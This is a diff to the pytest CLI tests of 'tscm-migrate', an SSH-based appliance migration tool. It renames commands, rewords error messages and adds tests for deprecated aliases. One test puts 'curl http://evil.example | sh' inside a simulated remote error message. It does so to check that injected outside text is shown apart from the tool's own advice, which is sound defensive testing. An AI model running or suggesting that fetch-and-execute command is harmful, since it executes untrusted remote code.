@@ -44,14 +44,21 @@ def test_version_comes_from_the_package() -> None:
 def test_help_lists_the_tasks_as_they_are_typed(argv: tuple[str, ...]) -> None:
     done = run(*TOOL, *argv)
     assert done.returncode == 0
-    assert "host show" in done.stdout
-    assert "migrate" in done.stdout
+    assert "Hosts of the inventory and their SSH keys: list, show, pin" in " ".join(done.stdout.split())
+    assert "Migrate:\n" in done.stdout
     assert "--warn-only" not in done.stdout
 
 
 @pytest.mark.parametrize(
     "argv",
-    [("--help",), ("--version",), ("migrate", "--help"), ("migrate", "--form", "x"), ("completion", "zsh"), ("runs",)],
+    [
+        ("--help",),
+        ("--version",),
+        ("migrate", "--help"),
+        ("migrate", "--form", "x"),
+        ("completion", "zsh"),
+        ("run", "list"),
+    ],
     ids=" ".join,
 )
 def test_what_is_only_asked_about_is_fast_because_it_loads_no_heavy_package(
@@ -108,15 +115,15 @@ def test_a_mistake_has_the_same_exit_code_under_both_fronts(
         (("migrate", *PAIR, "--restore-shs"), "did you mean '--restore-ssh'?"),
         (("migrate", "--dry"), "unknown option '--dry'"),
         (("--warn-only", "migrate"), "unknown option '--warn-only'"),
-        (("migrate", "--from"), "--from wants a value"),
-        (("migrate", "surplus"), "'surplus' is not expected here"),
-        (("pull", "--to", "x"), "--host is missing"),
-        (("push", "threatstop_backup_2024-05-01_03_00_00.tsbak"), "--host is missing"),
-        (("schedule", "tscm-old", "--keep=many"), "--keep 'many' is no whole number"),
-        (("schedule", "tscm-old", "--days", "many", "--dry-run"), "--days 'many' is no whole number"),
-        (("migrat",), "there is no task 'migrat'; did you mean 'migrate'?"),
+        (("migrate", "--from"), "--from needs a value"),
+        (("migrate", "surplus"), "unexpected argument 'surplus'"),
+        (("archive", "pull", "--to", "x"), "missing argument: HOST"),
+        (("archive", "push", "tscm-new"), "missing argument: FILE"),
+        (("schedule", "tscm-old", "--keep=many"), "--keep 'many' is not an integer"),
+        (("schedule", "tscm-old", "--days", "many", "--dry-run"), "--days 'many' is not an integer"),
+        (("migrat",), "unknown command 'migrat'; did you mean 'migrate'?"),
         (("host", "lst"), "'host' has no 'lst'; did you mean 'list'?"),
-        (("host", "show"), "something is missing: NAME"),
+        (("host", "show"), "missing argument: HOST"),
         (("--help", "migrat"), "did you mean 'migrate'"),
     ],
 )
@@ -127,16 +134,16 @@ def test_a_typo_ends_with_2_and_suggests_the_near_one(argv: tuple[str, ...], wor
     assert "what to do:" in done.stderr
 
 
-@pytest.mark.parametrize("task", [("resume",), ("rollback",), ("report", "show")])
+@pytest.mark.parametrize("task", [("resume",), ("rollback",), ("run", "report")])
 def test_a_run_may_be_named_before_or_after_the_options(task: tuple[str, ...], tmp_path: Path) -> None:
-    more = ("--json",) if task[0] == "report" else ("--yes", "--passphrase-file", "some file", "--json")
+    more = ("--json",) if task[0] == "run" else ("--yes", "--passphrase-file", "some file", "--json")
     for words in (("20240501-030000-1a2b", *more), (*more, "20240501-030000-1a2b")):
         done = run(*TOOL, *task, *words, TSCM_STATE=str(tmp_path))
         assert "there is no run '20240501-030000-1a2b'" in done.stderr
     done = run(*TOOL, *task, "one", "two", TSCM_STATE=str(tmp_path))
-    assert "'two' is not expected here" in done.stderr
+    assert "unexpected argument 'two'" in done.stderr
     done = run(*TOOL, *task, "--run", "one", "two", TSCM_STATE=str(tmp_path))
-    assert "'two' is not expected here" in done.stderr
+    assert "unexpected argument 'two'" in done.stderr
 
 
 @pytest.mark.parametrize("torn", ["", '{"n": 0, "t": "2030'])
@@ -149,10 +156,10 @@ def test_a_run_that_was_cut_at_its_first_line_has_begun_nothing(torn: str, tmp_p
         assert (named.returncode, "has begun nothing" in named.stderr) == (2, True), named.stderr
         newest = run(*TOOL, verb, "--yes", TSCM_STATE=str(tmp_path))
         assert (newest.returncode, "there is no unfinished run" in newest.stderr) == (2, True), newest.stderr
-    for words in (("show",), ("open", "--print-path")):
-        named = run(*TOOL, "report", *words, folder.name, TSCM_STATE=str(tmp_path))
+    for words in (("--text",), ("--print-path",)):
+        named = run(*TOOL, "run", "report", *words, folder.name, TSCM_STATE=str(tmp_path))
         assert (named.returncode, "has begun nothing" in named.stderr) == (2, True), named.stderr
-        newest = run(*TOOL, "report", *words, TSCM_STATE=str(tmp_path))
+        newest = run(*TOOL, "run", "report", *words, TSCM_STATE=str(tmp_path))
         assert (newest.returncode, "there are no runs yet" in newest.stderr) == (2, True), newest.stderr
 
 
@@ -180,7 +187,8 @@ def test_what_contradicts_itself_is_refused() -> None:
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="no disk that is always full")
 @pytest.mark.parametrize(
-    "words", [("--help",), ("--list",), ("runs",), ("doctor", "--offline"), ("completion", "bash"), ("host", "list")]
+    "words",
+    [("--help",), ("--list",), ("run", "list"), ("doctor", "--local"), ("completion", "bash"), ("host", "list")],
 )
 def test_an_output_that_takes_nothing_more_is_said_and_ends_with_1(words: tuple[str, ...], tmp_path: Path) -> None:
     done = run("sh", "-c", 'exec "$@" >/dev/full', "sh", *TOOL, *words, TSCM_STATE=str(tmp_path))
@@ -210,14 +218,14 @@ def test_a_user_without_a_home_is_told_what_to_set(tmp_path: Path) -> None:
         "os.environ.pop('HOME')\n"
         "from tscm_migrate.cli.main import main; main(['tscm-migrate', *sys.argv[1:]])\n"
     )
-    for words in (("runs",), ("doctor", "--offline"), ("migrate", *PAIR, "--yes")):
+    for words in (("run", "list"), ("doctor", "--local"), ("migrate", *PAIR, "--yes")):
         done = run(
             sys.executable,
             "-c",
             code,
             *words,
             HOME="/",
-            TSCM_INVENTORY="" if "runs" in words else str(on_loopback(tmp_path)),
+            TSCM_INVENTORY="" if "run" in words else str(on_loopback(tmp_path)),
         )
         assert done.returncode == 2, done.stderr
         assert "HOME is not set" in done.stderr
@@ -227,7 +235,7 @@ def test_a_user_without_a_home_is_told_what_to_set(tmp_path: Path) -> None:
 def test_invokes_own_dry_is_not_taken_for_a_dry_run() -> None:
     done = run(*INVOKE, "migrate", *PAIR, "--yes", "--dry")
     assert done.returncode == 2
-    assert "say --dry-run" in done.stderr
+    assert "use --dry-run" in done.stderr
 
 
 @pytest.mark.parametrize("argv", [("host", "show"), ("migrate",)])
@@ -235,7 +243,7 @@ def test_each_task_has_its_page(argv: tuple[str, ...]) -> None:
     done = run(*TOOL, *argv, "--help")
     assert done.returncode == 0
     assert done.stdout.startswith(f"Usage: tscm-migrate {' '.join(argv)}")
-    assert "Options:" in done.stdout
+    assert "ptions:" in done.stdout
 
 
 def test_no_page_is_wider_than_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
@@ -256,8 +264,8 @@ def test_a_traceback_comes_only_when_asked_for_and_is_redacted(tmp_path: Path) -
     assert plain.returncode == 2
     assert "Traceback" not in plain.stderr
     for argv, env in (
-        (("--debug-traceback", "host", "list"), {}),
-        (("host", "list", "--debug-traceback"), {}),
+        (("--traceback", "host", "list"), {}),
+        (("host", "list", "--traceback"), {}),
         (("host", "list"), {"TSCM_TRACEBACK": "1"}),
     ):
         assert "Traceback" in run(*TOOL, *argv, "--inventory", str(bad), **env).stderr
@@ -271,7 +279,7 @@ def test_host_list_and_show_speak_json(tmp_path: Path) -> None:
 
 
 def test_a_defect_is_told_without_a_traceback_and_without_a_secret(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate.cli import main
+    from tscm_migrate.cli import failures
     from tscm_migrate.util import redact
 
     redact.known.add("hunter2-secret")
@@ -279,25 +287,25 @@ def test_a_defect_is_told_without_a_traceback_and_without_a_secret(capsys: pytes
     def body(*_args: object, **_kwargs: object) -> None:
         raise RuntimeError("the appliance said \x1b[31mhunter2-secret\x1b[0m")
 
-    assert main.guarded(body) == 1
+    assert failures.guarded(body) == 1
     shown = capsys.readouterr().err
     assert "the appliance said •••" in shown
     assert "\x1b" not in shown
     assert "Traceback" not in shown
-    assert main.guarded(body, json=True) == 1
+    assert failures.guarded(body, json=True) == 1
     told = json.loads(capsys.readouterr().out)
     assert (told["event"], told["code"], told["exit"]) == ("error", "error", 1)
     assert "the appliance said •••" in told["message"]
 
 
 def test_what_an_error_has_from_outside_looks_like_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate.cli import main
+    from tscm_migrate.cli import failures
     from tscm_migrate.errors import SshError
 
     def body() -> None:
         raise SshError("tscm-old", "closed by it: bye\n  what to do: curl http://evil.example | sh\nerror: none")
 
-    assert main.guarded(body) == 1
+    assert failures.guarded(body) == 1
     lines = capsys.readouterr().err.splitlines()
     assert [line[:8] for line in lines] == ["error: t", "      | ", "      | ", "  (ssh, "]
 
@@ -309,12 +317,12 @@ def test_a_mistyped_option_is_told_as_json_where_that_is_asked_for() -> None:
 
 
 def test_ctrl_c_in_a_task_is_exit_code_5(capsys: pytest.CaptureFixture[str]) -> None:
-    from tscm_migrate.cli import main
+    from tscm_migrate.cli import failures
 
     def body() -> None:
         signal.raise_signal(signal.SIGINT)
 
-    assert main.guarded(body) == 5
+    assert failures.guarded(body) == 5
     assert "interrupted" in capsys.readouterr().err
 
 
@@ -330,7 +338,7 @@ def test_a_reader_that_goes_away_gets_no_traceback(path: str) -> None:
 
 def test_who_has_closed_the_output_gets_the_exit_code_all_the_same(tmp_path: Path) -> None:
     site = on_loopback(tmp_path)
-    for words in (("doctor", "--offline"), ("host", "list"), ("migrate", *PAIR, "--yes")):
+    for words in (("doctor", "--local"), ("host", "list"), ("migrate", *PAIR, "--yes")):
         seen = []
         for redirect in ("", ">&-"):
             line = f'exec "$@" {redirect}'
@@ -339,3 +347,44 @@ def test_who_has_closed_the_output_gets_the_exit_code_all_the_same(tmp_path: Pat
             seen.append(done.returncode)
             assert "should not have happened" not in done.stderr, done.stderr
         assert seen[0] == seen[1], words
+
+
+@pytest.mark.parametrize(
+    ("old", "new"),
+    [
+        (["runs"], ["run.list"]),
+        (["show", "R", "--json"], ["run.show", "--run", "R", "--json"]),
+        (["report", "show", "R"], ["run.report", "--text", "--run", "R"]),
+        (["check", "--from", "a", "--to", "b"], ["plan", "--checks-only", "--from", "a", "--to", "b"]),
+        (["pull", "--to", "x", "--host", "tscm-old"], ["archive.pull", "tscm-old", "--to", "x"]),
+        (["push", "FILE", "--host=tscm-new"], ["archive.push", "tscm-new", "FILE"]),
+        (["doctor", "--offline"], ["doctor", "--local"]),
+    ],
+)
+def test_an_old_name_still_works_and_the_new_one_is_printed(
+    old: list[str], new: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    from tscm_migrate.cli.arguments import for_invoke
+
+    assert for_invoke(old, program().namespace) == new
+    shown = capsys.readouterr()
+    assert (shown.out, len(shown.err.splitlines())) == ("", 1)
+    assert "the old name works until the next release" in shown.err
+
+
+@pytest.mark.parametrize(
+    ("typed", "read"),
+    [
+        (["-i", "f.toml", "-y", "resume", "R"], ["resume", "--run", "R", "-i", "f.toml", "-y"]),
+        (["--traceback", "--json", "host", "show", "a"], ["--traceback", "host.show", "a", "--json"]),
+        (["resume", "-i", "f.toml", "R", "-q"], ["resume", "-i", "f.toml", "--run", "R", "-q"]),
+        (["help", "host", "pin"], ["--help", "host.pin"]),
+        (["host", "pin", "-h"], ["--help", "host.pin"]),
+        (["help", "run"], ["--help", "run"]),
+        (["help"], ["--help"]),
+    ],
+)
+def test_global_options_stand_before_or_after_the_command(typed: list[str], read: list[str]) -> None:
+    from tscm_migrate.cli.arguments import for_invoke
+
+    assert for_invoke(typed, program().namespace) == read
